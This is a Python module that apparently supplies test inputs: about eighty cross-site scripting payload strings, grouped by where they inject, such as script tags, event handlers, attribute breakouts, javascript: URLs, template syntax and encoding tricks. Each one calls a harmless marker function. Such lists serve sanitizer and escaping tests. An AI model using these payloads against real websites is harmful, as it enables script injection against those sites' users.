"""Text that would run a script wherever it were taken for more than text: each calls `ran()` or opens a dialogue.

By the place it aims at: an element, an attribute, an address, a script, a template, a comment, broken encodings.
"""

ELEMENTS = (
    "<script>ran()</script>", "<SCRIPT>ran()</SCRIPT>", "<script >ran()</script >", "<script/x>ran()</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>", "<script\t>ran()</script>", "<script>ran()//", "<<script>ran()</script>",
    "<script src=data:,ran()></script>", "<script type=module>ran()</script>", "<script async>ran()</script>",
    "</script><script>ran()</script>", "</textarea><script>ran()</script>", "</title><script>ran()</script>",
    "</style><script>ran()</script>", "</template><script>ran()</script>", "</option></select><script>ran()</script>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", "<iframe src=javascript:parent.ran()></iframe>",
    "<object data=javascript:ran()></object>", "<embed src=javascript:ran()>", "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>", "<link rel=stylesheet href=//elsewhere.example>",
    "<form action=javascript:ran()><button>x</button></form>", "<math><mi xlink:href=javascript:ran()>x</mi></math>",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror=ran()>", "<IMG SRC=x ONERROR=ran()>", "<img/src=x/onerror=ran()>", "<img src onerror=ran()>",
    "<img src=x onerror='ran()'", "<img src=x:x onerror=&#114;&#97;&#110;()>", "<svg onload=ran()>",
    "<svg/onload=ran()>",
    "<svg><script>ran()</script></svg>", "<svg><animate onbegin=ran() attributeName=x></svg>", "<body onload=ran()>",
    "<input autofocus onfocus=ran()>", "<select autofocus onfocus=ran()>", "<textarea autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>", "<video><source onerror=ran()></video>", "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>", "<p onpointerover=ran()>x</p>", "<style onload=ran()></style>",
    "<p style=animation-name:x onanimationstart=ran()>", "<img src=x\nonerror=ran()>", "<img src=x\x0bonerror=ran()>",
)  # fmt: skip
ATTRIBUTES = (
    '" onfocus="ran()" autofocus="', "' onfocus='ran()' autofocus='", '"><script>ran()</script>',
    "'><script>ran()</script>", '"><img src=x onerror=ran()>', "` onfocus=ran() autofocus `", '" style="x:y" x="',
    "x onfocus=ran() autofocus",
    '"/><svg onload=ran()>',
)  # fmt: skip
OTHERS = (
    "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "data:text/html,<script>ran()</script>",
    "';ran();//", '";ran();//', "\\';ran();//", "${ran()}", "`${ran()}`", "{{constructor.constructor('ran()')()}}",
    "{% include 'x' %}{{ ran }}", "--><script>ran()</script>", "]]><script>ran()</script>", "*/ran()/*",
    "&lt;script&gt;ran()&lt;/script&gt;", "&#60;script&#62;ran()&#60;/script&#62;", "%3Cscript%3Eran()%3C/script%3E",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e", "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-", "\u202e<script>ran()</script>", "ran()\u2028ran()",
)  # fmt: skip
SCRIPTS = (*ELEMENTS, *HANDLERS, *ATTRIBUTES, *OTHERS)
